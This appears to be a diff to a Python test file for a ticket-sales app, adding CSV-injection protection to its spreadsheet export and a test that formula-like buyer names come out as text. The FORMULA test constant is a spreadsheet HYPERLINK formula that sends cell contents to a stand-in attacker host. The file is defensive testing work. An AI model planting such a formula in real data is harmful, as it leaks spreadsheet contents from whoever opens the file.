@@ -43,6 +43,8 @@ TICKET_COLUMNS = [
 MONEY = {"total_price", "refunded"}
 TRICKY_NAME = 'Doe, "Jo"\nZoë Ærøskøbing 東京'
 TRICKY_EMAIL = "zoë.ærø@exämple.com"
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def parse(text: str) -> tuple[list[str], list[dict[str, str]]]:
@@ -62,6 +64,8 @@ def as_cell(field: str, value: Any) -> str:
         return f"{value:.2f}"
     if isinstance(value, dict | list):
         return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return f"'{value}"
     return str(value)
 
 
@@ -156,6 +160,30 @@ async def test_quoting_follows_rfc_4180(client: AsyncClient, tenant: Tenant) -> 
     assert json.loads(first["metadata"]) == {"note": 'a, "b"\nc', "größe": ["M", 1.5, None]}
     [field] = json.loads(first["metadata_fields"])
     assert (field["key"], field["name"], field["value"]) == ("diet", "Diät", 'vegan, "strict"')
+
+
+async def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    client: AsyncClient, tenant: Tenant
+) -> None:
+    """CSV injection (OWASP): a buyer's name like ``=HYPERLINK(...)`` would be a live link (or
+    worse) in the spreadsheet of whoever opens the export; with a ``'`` in front it is text."""
+    venue = await create_venue(client, tenant, price=12.5)
+    event_id, slot, kind = venue.event["id"], venue.timeslot["id"], venue.ticket_type["id"]
+    names = [FORMULA, "+31 20 555 0100", "-Dash", "@SUM(A1:A9)", "Ada = Buyer"]
+    tickets = [{"ticket_type_id": kind, "owner_name": name} for name in names]
+    order = await place_order(
+        client, tenant, event_id, slot, [], buyer_name=FORMULA, tickets=tickets, confirm=True
+    )
+    assert order["buyer_name"] == FORMULA  # stored and listed as typed
+
+    _, [row] = parse((await export(client, tenant, "/orders")).content.decode())
+    assert row["buyer_name"] == f"'{FORMULA}"
+    assert row["total_price"] == "62.50" and row["refunded"] == "0.00"  # numbers stay numbers
+    _, rows = parse((await export(client, tenant, f"/events/{event_id}/tickets")).content.decode())
+    assert sorted(row["owner_name"] for row in rows) == sorted(
+        [f"'{FORMULA}", "'+31 20 555 0100", "'-Dash", "'@SUM(A1:A9)", "Ada = Buyer"]
+    )
+    assert {row["sequence"] for row in rows} == {"1", "2", "3", "4", "5"}
 
 
 async def test_tickets_csv_is_every_ticket_of_the_event(
